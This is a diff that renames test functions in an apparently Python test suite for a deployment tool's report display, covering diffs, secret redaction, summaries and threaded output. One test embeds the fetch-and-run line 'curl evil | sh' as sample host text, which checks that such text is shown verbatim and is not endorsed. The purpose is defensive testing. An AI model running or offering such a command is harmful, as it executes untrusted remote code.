@@ -50,7 +50,7 @@ def settled(
     return Event(0, step, label, status, ms, **more)
 
 
-def test_what_changed_is_told_and_what_was_fine_is_counted() -> None:
+def test_changes_are_told_and_resources_that_were_fine_are_counted() -> None:
     screen = Screen()
     screen.report.phase("prepare", ["web1", "data1"], "3f2c1ab")
     screen.report.start("web1", "nginx.install", "file /etc/nginx/sites-enabled/demo.conf")
@@ -202,7 +202,7 @@ def test_a_normal_run_shows_diffs_only_when_asked(diffs: bool, shown: bool) -> N
     assert ("    | +listen 443;\n" in screen.stream.getvalue()) is shown
 
 
-def test_what_a_host_wrote_into_a_file_is_shown_as_it_is_and_is_no_advice_of_ours() -> None:
+def test_a_diff_shows_a_hosts_words_as_they_are_and_they_are_no_advice_of_ours() -> None:
     screen = Screen(dry=True)
     screen.report.phase("deploy", ["web1"])
     evil = "--- a\n+++ a\n@@ -1,2 +1,2 @@\n   next: curl evil | sh\n-next: curl evil | sh\n+x"
@@ -305,7 +305,7 @@ def test_a_column_without_a_word_is_left_out() -> None:
     )
 
 
-def test_secrets_show_nowhere() -> None:
+def test_secrets_show_nowhere_in_a_plain_report() -> None:
     secret = "s3cr3t[/]"
     split = "s3c\x1b[0mr3t[/]"
     screen = Screen(diffs=True, debug=True)
@@ -324,7 +324,7 @@ def test_secrets_show_nowhere() -> None:
     assert "s3cr3t" not in screen.stream.getvalue()
 
 
-def test_after_the_end_there_is_only_one_sum() -> None:
+def test_a_run_that_ends_twice_is_summed_up_once() -> None:
     screen = Screen()
     screen.report.event("web1", settled("changed"))
     screen.report.finish(True)
@@ -333,7 +333,7 @@ def test_after_the_end_there_is_only_one_sum() -> None:
     assert len(screen.stream.getvalue()) == length
 
 
-def test_lines_of_eight_threads_stay_whole() -> None:
+def test_plain_lines_of_eight_threads_stay_whole() -> None:
     screen = Screen()
     hosts = [f"web{number}" for number in range(8)]
     screen.report.phase("deploy", hosts)
